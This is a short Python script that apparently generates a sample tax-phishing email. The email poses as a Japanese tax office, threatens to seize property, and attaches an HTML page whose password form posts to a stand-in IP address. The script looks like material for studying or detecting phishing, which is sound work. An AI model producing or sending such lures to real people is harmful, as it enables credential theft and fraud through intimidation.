"""A reminder of the tax office in letters of Taiwan: a page that asks for a password is attached.
Scenario: tax phishing of 2022."""
from kit import *

PAGE = """<html><body><p>確認番号を入力してください。</p>
<form action="http://203.0.113.21/nta/"><input type="password" name="p"></form></body></html>"""


def make():
    body = ("お客様の所得税について、滯納金がございます。\n納稅確認番号をご確認のうえ、期限までにお支払いください。\n"
            "期限を過ぎた場合、財產の差押えに着手します。\n")
    return (Mail("未払い税金のお知らせ", "info@tax.example.top", name="税務署", date="Mon, 12 Sep 2022 11:20:00 +0900")
            .text(body).attach("確認.html", PAGE.encode(), "text/html").bytes())
